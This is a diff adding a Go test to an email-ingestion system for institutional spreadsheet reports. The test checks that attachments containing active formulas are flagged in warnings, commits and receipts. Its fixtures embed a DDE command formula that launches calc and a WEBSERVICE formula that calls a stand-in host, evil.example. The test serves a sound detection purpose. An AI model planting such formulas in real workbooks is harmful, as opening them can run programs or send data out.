@@ -11,7 +11,11 @@ import (
 	"time"
 
 	"github.com/emersion/go-message"
+	"github.com/go-git/go-git/v5"
+	"github.com/xuri/excelize/v2"
 
+	"kjjr/content"
+	"kjjr/content/gitfs"
 	"kjjr/internal/safetext"
 )
 
@@ -197,5 +201,87 @@ func TestDovecotHostileText(t *testing.T) {
 	}
 	if !strings.HasPrefix(r.Subject, "正常主题 0123456789abcdef0123") {
 		t.Errorf("subject %q", r.Subject)
+	}
+}
+
+// plainWorkbook is a small workbook that is no monthly sheet.
+func plainWorkbook(t *testing.T) []byte {
+	t.Helper()
+	f := excelize.NewFile()
+	defer f.Close()
+	f.SetCellValue("Sheet1", "A1", "融资台账")
+	var b bytes.Buffer
+	if err := f.Write(&b); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
+}
+
+// withActive adds formula to the first sheet of a workbook, in a cell the
+// parser does not read.
+func withActive(t *testing.T, data []byte, formula string) []byte {
+	t.Helper()
+	f, err := excelize.OpenReader(bytes.NewReader(data))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	sh := f.GetSheetList()[0]
+	if err := f.SetCellFormula(sh, "Z40", formula); err != nil {
+		t.Fatal(err)
+	}
+	var b bytes.Buffer
+	if err := f.Write(&b); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
+}
+
+// TestActiveContentFlagged: a monthly sheet with a DDE formula and an
+// evidence workbook with a WEBSERVICE call are kept, and flagged in the
+// report's warnings (kjjr review), in the commit and in the receipt, with
+// the risk named in Chinese.
+func TestActiveContentFlagged(t *testing.T) {
+	e, q, dir := newTestEngine(t, false)
+	raw := compose("周强 <"+instSender+">", "2026年10月月报", "act1@jinchuang-capital.example.com", testNow.Add(-time.Hour),
+		"您好，附件为10月月报。", []attachment{
+			{Name: "2026年10月考核表.xlsx", Type: xlsxType, Data: withActive(t, goodSheet(t, "2026年10月"), `cmd|'/C calc'!A0`)},
+			{Name: "融资台账.xlsx", Type: xlsxType, Data: withActive(t, plainWorkbook(t), `WEBSERVICE("http://evil.example/")`)},
+		})
+	h, err := e.handle(context.Background(), raw, testNow)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if h.dest != destProcessed {
+		t.Fatalf("handled = %+v", h)
+	}
+	r, _ := git.PlainOpen(dir)
+	c, err := r.CommitObject(h.commit)
+	if err != nil {
+		t.Fatal(err)
+	}
+	fsys, _, err := gitfs.Rev(r, h.branch)
+	if err != nil {
+		t.Fatal(err)
+	}
+	repo, err := content.Load(fsys, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rep := repo.Institution(instSlug).Report(content.Period{Kind: content.Monthly, Year: 2026, Month: 10})
+	rc := q.byKey[q.order[0]]
+	for what, text := range map[string]string{
+		"report warnings": strings.Join(rep.Warnings, "\n"),
+		"commit":          c.Message,
+		"receipt":         strings.Join(rc.Problems, "\n"),
+	} {
+		for _, want := range []string{"附件“2026年10月考核表.xlsx”含有DDE 公式", "附件“融资台账.xlsx”含有WEBSERVICE 联网公式", "打开时可能执行外部程序"} {
+			if !strings.Contains(text, want) {
+				t.Errorf("%s lacks %q:\n%s", what, want, text)
+			}
+		}
+	}
+	if !rc.Accepted {
+		t.Error("a flagged sheet was not accepted")
 	}
 }
